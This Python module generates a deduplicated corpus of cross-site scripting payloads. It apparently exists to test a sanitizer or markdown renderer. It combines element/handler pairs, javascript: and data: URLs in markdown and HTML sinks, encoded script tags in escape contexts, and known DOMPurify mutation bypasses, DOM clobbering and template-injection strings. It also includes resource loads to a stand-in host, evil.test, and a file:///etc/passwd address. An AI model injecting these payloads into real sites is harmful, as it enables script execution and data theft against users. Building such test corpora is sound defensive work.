"""Texts that are meant to run as scripts: elements with handlers, addresses, encodings, ways out of a context.

They are made of the lists that public collections have (OWASP's cheat sheet of filter evasion, PortSwigger's, the
history of DOMPurify), so that each combination is there. Whatever runs calls `alert`.
"""

import base64
from itertools import product
from urllib.parse import quote

ELEMENTS = (
    "img src=x", "svg", "body", "iframe src=x", "video src=x", "audio src=x autoplay", "details open", "a href=x",
    "input autofocus", "marquee", "object data=x", "embed src=x", "select autofocus", "textarea autofocus",
    "button autofocus", "style", "form", "link rel=stylesheet href=x", "math", "dialog open", "x contenteditable",
)  # fmt: skip
HANDLERS = (
    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerenter", "onanimationstart", "onclick", "onbegin",
    "onloadstart", "oncontentvisibilityautostatechange",
)  # fmt: skip
SCRIPT = "<script>alert(1)</script>"
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
    "java&NewLine;script:alert(1)", "javascript%3Aalert(1)", "javascript://%0aalert(1)", "javascript://a.test/%0aalert(1)",
    "vbscript:alert(1)", f"data:text/html,{quote(SCRIPT)}",
    f"data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()}", "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.test/x", "https:evil.test/x", "\\\\evil.test\\x", "blob:https://evil.test/x", "file:///etc/passwd",
)  # fmt: skip
PLACES = (
    "[a]({})", "[a](<{}>)", "<{}>", "![a]({})", "[a][r]\n\n[r]: {}", "[![a]({0})]({0})", '<a href="{}">a</a>',
    '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><button>a</button></form>',
    '<svg><a xlink:href="{}"><text y=9>a</text></a></svg>', '<object data="{}"></object>', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">', '<math href="{}">a</math>',
    '<div style="background:url({})">a</div>', '<button formaction="{}">a</button>', '<embed src="{}">',
)  # fmt: skip
ENCODED = (
    SCRIPT, "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script >", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    SCRIPT.replace("<", "&lt;"), "".join(f"&#{ord(sign)};" for sign in SCRIPT), quote(SCRIPT),
    "".join(f"&#x{ord(sign):x}" for sign in SCRIPT), SCRIPT.replace("<", "\\u003c"), SCRIPT.replace("<", "\uff1c"),
    SCRIPT.replace("<", "+ADw-").replace(">", "+AD4-"), SCRIPT.replace("<", "&amp;lt;"), "<img src=x onerror=alert(1)>",
)  # fmt: skip
CONTEXTS = (
    "{}", "`{}`", "```html\n{}\n```", "```{}\na\n```", "    {}", "> {}", "# {}", "- {}", "| a |\n|---|\n| {} |", "**{}**",
    "<!-- {} -->", '"> {}', "'> {}", "</textarea>{}", "</title>{}", "</style>{}", "</script>{}", "--> {}", "]]>{}",
    '[a](https://a.test "{}")', "![{}](https://a.test/i.png)", '<p title="{}">a</p>', "<template>{}</template>",
)  # fmt: skip
KNOWN = (
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    '<svg><foreignObject><style><img src="</style><img src=x onerror=alert(1)>"></foreignObject></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text y=9>a</text></a>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
    "<svg><script href=data:,alert(1) />", "<svg><script>alert&#40;1)</script>", "<script>alert`1`</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'>",
    "<a id=session><a id=session name=value>a</a>", "<form id=app><input name=attributes><input name=parentNode></form>",
    "<img name=getElementById>", "<img src=x:alert(1) onerror=eval(src)>", "<isindex action=javascript:alert(1)>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "[[${alert(1)}]]",
    "<style>@import 'https://evil.test/x.css'; *{background:url(https://evil.test/x)}</style>",
    '<link rel=prefetch href="https://evil.test/x">', '<img srcset="https://evil.test/x 1x">',
    '<video poster="https://evil.test/x"></video>', "![a](https://evil.test/x.png)", '<p background="https://evil.test/x">',
    "<https://evil.test/\" onmouseover=alert(1) a=\">", "[a](https://a.test/\"onmouseover=alert(1))",
    "[a](https://a.test 'x\" onmouseover=alert(1) \"')", "<a href=https://a.test onclick=alert(1)>a</a>",
    "[\\]: javascript:alert(1)", "<x onclick=alert(1) style=position:fixed;inset:0>a</x>",
    "<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>a</div>",
    "<div is=x-a>a</div><slot name=a>", "<input type=image src=x onerror=alert(1)>", "<xmp><img src=x onerror=alert(1)>",
    "<plaintext><script>alert(1)</script>", "<!--><script>alert(1)</script>", "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=javascript:alert(1)?>",
    "\u202e<script>alert(1)</script>", "<img\u2028src=x\u2028onerror=alert(1)>", "<img/src=x/onerror=alert(1)//",
    "<svg/onload=alert(1)", "<<script>alert(1)//<</script>", "javascript:/*--></title></style></textarea></script>"
    "</xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
)  # fmt: skip

CORPUS = tuple(
    dict.fromkeys(
        [f"<{element} {handler}=alert(1)>" for element, handler in product(ELEMENTS, HANDLERS)]
        + [place.format(address) for place, address in product(PLACES, ADDRESSES)]
        + [context.format(text) for context, text in product(CONTEXTS, ENCODED)]
        + list(KNOWN)
    )
)
"""All of them, each once."""
